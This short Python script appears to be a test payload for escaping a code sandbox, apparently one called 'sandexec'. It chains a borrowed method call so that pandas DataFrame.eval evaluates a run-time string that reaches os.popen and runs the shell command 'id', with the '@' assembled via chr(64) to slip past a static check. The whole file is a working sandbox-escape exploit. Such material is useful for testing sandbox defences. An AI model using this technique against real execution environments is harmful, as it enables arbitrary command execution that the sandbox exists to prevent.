# source: sandexec README, "The static check", exception 'Base.method(self, ...) is fine'; pyjail foreign-self idea
# family: Base.method(self, ...) called from an unrelated class whose self is a DataFrame subclass: the method's trusted self.eval is DataFrame.eval
# goal: DataFrame.eval on a run-time '@pd.io.common.os.popen("id")'
import pandas as pd
class Calc:
    def eval(self, e, **kw):
        return None
    def run(self, e):
        return self.eval(e)
class Frame(pd.DataFrame):
    def go(self, e):
        return Calc.run(self, e)
f = Frame({"a": [1.0]})
print(f.go(chr(64) + "pd.io.common.os.popen('id').read()"))
